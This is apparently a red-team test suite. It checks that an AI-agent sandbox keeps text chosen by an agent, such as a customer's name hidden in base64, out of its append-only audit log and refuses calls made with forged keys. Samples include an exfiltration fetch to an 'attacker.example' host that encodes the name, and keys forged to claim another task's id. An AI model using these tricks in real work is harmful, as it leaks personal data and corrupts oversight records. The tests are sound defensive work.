/**
 * Issue 9, item 6: the audit log is append-only and can never be erased, so
 * nothing an agent chose may sit in it as written: a refund reason, email
 * variables, an unknown op name, a blocked hostname, a refusal message that
 * quotes the call, a summary or a failure reason. And a refused call whose
 * keys did not verify is never filed under the task its key claims.
 */
import { describe, expect } from "vitest";
import { generateSigningKey } from "../src/keys/generate.ts";
import { cell } from "./support/cell.ts";
import { attack } from "./support/redteam.ts";
import { type AuditEntry, useSystem } from "./support/system.ts";

const t = useSystem();
const c = cell(t);
const NAME = "Maria Alvarez";
const B64 = btoa(NAME);
/** Neither the learned name nor its base64 anywhere in these rows. */
const clean = (rows: unknown) => {
  const json = JSON.stringify(rows);
  expect(json).not.toMatch(/maria|alvarez/i);
  expect(json).not.toContain(B64);
};
const since = async (before: number): Promise<AuditEntry[]> => (await t.audit()).slice(before);

describe("agent-chosen strings are kept out of the append-only log", () => {
  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "hide a learned name, base64-encoded, in the task summary",
      evidence: "task row and audit hold [OPAQUE …], neither the name nor its base64",
    },
    async () => {
      await t.puppet({ attack: "result", result: { status: "completed", summary: `done; ref ${B64}; for ${NAME}` } });
      const task = await t.createTask({ agent: "puppet-agent", subject: { customerId: "cus_1001" }, message: "hello" });
      const row = (await t.api(`/v1/tasks/${task.taskId}`)).body;
      expect(row.summary).toMatch(/^done; ref \[OPAQUE 20 chars\]; for \[NAME_\d\]$/);
      clean([row, await t.audit(task.taskId)]);
    },
  );

  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "put a name and base64 in a failed run's reason",
      evidence: "task.queued_human reason tokenized, base64 cut",
    },
    async () => {
      await t.puppet({ attack: "result", result: { status: "failed", reason: `gave up on ${NAME} ${B64}` } });
      const task = await t.createTask({ agent: "puppet-agent", subject: { customerId: "cus_1001" }, message: "hello" });
      const queued = (await t.audit(task.taskId)).find((e) => e.event === "task.queued_human");
      expect((queued?.detail as any)?.reason).toMatch(/^gave up on \[NAME_\d\] \[OPAQUE 20 chars\]$/);
      clean(await t.audit(task.taskId));
    },
  );

  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "carry a name in a refund reason",
      evidence: "the row keeps the reason as a length and a hash",
    },
    async () => {
      const taskId = await c.task("cus_1001");
      expect((await c.refund("ord_5002", 5, `${NAME} asked, ${B64}`)).ok).toBe(true);
      const row = (await t.audit(taskId)).find((e) => e.op === "refund.issue");
      expect((row?.detail as any)?.args.reason).toEqual({
        chars: `${NAME} asked, ${B64}`.length,
        sha256: expect.stringMatching(/^[0-9a-f]{16}$/),
      });
      clean(row);
    },
  );

  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "carry a name in a free-text email variable",
      evidence: "the row keeps the variable as a length and a hash",
    },
    async () => {
      const taskId = await c.task("cus_1004");
      await c.call("customer.read", { customerId: "cus_1004" });
      expect(
        await c.email("puppet-notice", "[EMAIL_1]", { name: "[NAME_1]", note: `cc ${NAME} ${B64}` }),
      ).toMatchObject({ ok: true });
      const row = (await t.audit(taskId)).find((e) => e.op === "email.send");
      expect((row?.detail as any)?.variables).toEqual({
        name: "[NAME_1]",
        note: { chars: 37, sha256: expect.any(String) },
      });
      clean(row);
    },
  );

  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "write a name as an unknown op name, and a huge one",
      evidence: "unknown_operation / validation_failed; op filed as 'unknown' with a digest",
    },
    async () => {
      const taskId = await c.task("cus_1001");
      const before = (await t.audit()).length;
      expect(await c.call(`exfil.${NAME.replace(" ", ".")}.${B64}`)).toMatchObject({
        ok: false,
        error: "unknown_operation",
      });
      expect(await c.call(`x${NAME}`.repeat(2000))).toMatchObject({ ok: false, error: "validation_failed" });
      const rows = await since(before);
      expect(rows).toHaveLength(2);
      expect(rows[0]).toMatchObject({
        taskId,
        op: "unknown",
        decision: "refused",
        reason: "unknown_operation",
        detail: { opName: { chars: 40 } },
      });
      expect(rows[1]).toMatchObject({
        op: "unknown",
        decision: "refused",
        reason: "validation_failed",
        detail: { opName: { chars: 28000 } },
      });
      clean(rows);
    },
  );

  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "make a refusal message quote a name (model, template, unknown argument)",
      evidence: "refused rows with the caller's text cut",
    },
    async () => {
      await c.task("cus_1001");
      await c.call("customer.read", { customerId: "cus_1001" });
      const before = (await t.audit()).length;
      expect(
        await c.call("llm.chat", { model: `${NAME}-gpt`, messages: [{ role: "user", content: "hi" }] }),
      ).toMatchObject({ ok: false, error: "model_denied" });
      expect(await c.email(`maria-alvarez`, "[EMAIL_1]", {})).toMatchObject({ ok: false, error: "template_denied" });
      expect(
        await c.call(
          "refund.issue",
          { orderId: "ord_5002", amount: 1, currency: "USD", reason: "x", MariaAlvarez: 1 },
          true,
        ),
      ).toMatchObject({ ok: false, error: "validation_failed" });
      expect(
        await c.email("puppet-notice", "[EMAIL_1]", {
          name: "[NAME_1]",
          note: "x",
          [`${B64.slice(0, 8)}MariaAlvarez`]: "y",
        }),
      ).toMatchObject({ ok: false, error: "validation_failed" });
      const rows = await since(before);
      // The refusals, in order: journaled rows reach the global log in shipments, so rows of other events may fall between them.
      expect(rows.filter((r) => r.event === "proxy.call" && r.decision === "refused").map((r) => r.reason)).toEqual([
        "model_denied",
        "template_denied",
        "validation_failed",
        "validation_failed",
      ]);
      expect(JSON.stringify(rows)).toContain("[caller text]");
      clean(rows);
    },
  );

  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "fetch() a hostname that spells a learned name",
      evidence: "egress.denied row keeps a digest of the host",
    },
    async () => {
      const before = (await t.audit()).length;
      const host = `maria-alvarez.${B64.replace(/=/g, "")}.attacker.example`;
      const res = await t.hostile({ attack: "fetch", url: `https://${host}/` });
      expect(res).toMatchObject({ ok: true, value: { status: 403 } });
      const rows = (await since(before)).filter((e) => e.event === "egress.denied");
      expect(rows).toEqual([
        expect.objectContaining({
          decision: "refused",
          reason: "egress_denied",
          detail: { method: "GET", scheme: "https:", host: { chars: host.length, sha256: expect.any(String) } },
        }),
      ]);
      expect(JSON.stringify(rows)).not.toMatch(/maria|attacker/i);
    },
  );

  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "grow the log with a 4000-character reply",
      evidence: "the row keeps 1000 characters and says how many were cut",
    },
    async () => {
      const taskId = await c.task("cus_1001");
      expect((await c.reply("la ".repeat(1333))).ok).toBe(true);
      const row = (await t.audit(taskId)).find((e) => e.op === "reply.send");
      expect(JSON.stringify(row?.detail).length).toBeLessThan(1200);
      expect((row?.detail as any)?.text).toMatch(/… \[2999 chars cut\]$/);
    },
  );
});

describe("a refused call is filed only under a task a router key signed", () => {
  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "forge keys claiming another task's id",
      evidence: "key_forged, the refusal row has no task id; the victim's log has no row of it",
    },
    async () => {
      const victim = await t.createTask({
        agent: "refund-agent",
        subject: { customerId: "cus_1003" },
        message: "Where is my keyboard?",
      });
      const victimRows = (await t.audit(victim.taskId)).filter((r) => !r.event.startsWith("mail.")).length;
      const realKid = JSON.parse(t.secrets.SILOOS_SIGNING_KEYS)[0].kid as string;
      const forged = JSON.stringify([await generateSigningKey(realKid)]);
      const keys = await t.mintPair({
        principal: "agent:hostile-agent",
        taskId: victim.taskId,
        customer: "cus_1003",
        signingKeys: forged,
      });
      const before = (await t.audit()).length;
      expect(await t.hostile({ attack: "call", op: "whoami", ...keys })).toMatchObject({
        ok: false,
        error: "key_forged",
      });
      expect(await t.hostile({ attack: "call", op: "no.such.op", ...keys })).toMatchObject({
        ok: false,
        error: "key_forged",
      });
      // mail.* rows come from the outbox consumer on the queue's own clock: not this call's.
      const rows = (await since(before)).filter((r) => !r.event.startsWith("mail."));
      expect(rows).toEqual([
        expect.objectContaining({
          taskId: null,
          actor: "agent:hostile-agent",
          decision: "refused",
          reason: "key_forged",
          detail: expect.objectContaining({ verified: false }),
        }),
        expect.objectContaining({ taskId: null, op: "unknown", reason: "key_forged" }),
      ]);
      expect((await t.audit(victim.taskId)).filter((r) => !r.event.startsWith("mail."))).toHaveLength(victimRows);
    },
  );

  attack(
    {
      surface: "cell",
      class: "audit-injection",
      tries: "send a malformed call under a forged key claiming another task",
      evidence: "validation_failed, filed under no task",
    },
    async () => {
      const victim = await t.createTask({
        agent: "refund-agent",
        subject: { customerId: "cus_1003" },
        message: "Where is my keyboard?",
      });
      const victimRows = (await t.audit(victim.taskId)).filter((r) => !r.event.startsWith("mail.")).length;
      const forged = JSON.stringify([await generateSigningKey("forged-kid")]);
      const keys = await t.mintPair({
        principal: "agent:hostile-agent",
        taskId: victim.taskId,
        customer: "cus_1003",
        signingKeys: forged,
      });
      expect(await t.hostile({ attack: "call", op: "", ...keys })).toMatchObject({
        ok: false,
        error: "validation_failed",
      });
      expect((await t.audit()).filter((r) => r.taskId === null && !r.event.startsWith("mail.")).at(-1)).toMatchObject({
        taskId: null,
        reason: "validation_failed",
      });
      expect((await t.audit(victim.taskId)).filter((r) => !r.event.startsWith("mail."))).toHaveLength(victimRows);
    },
  );
});
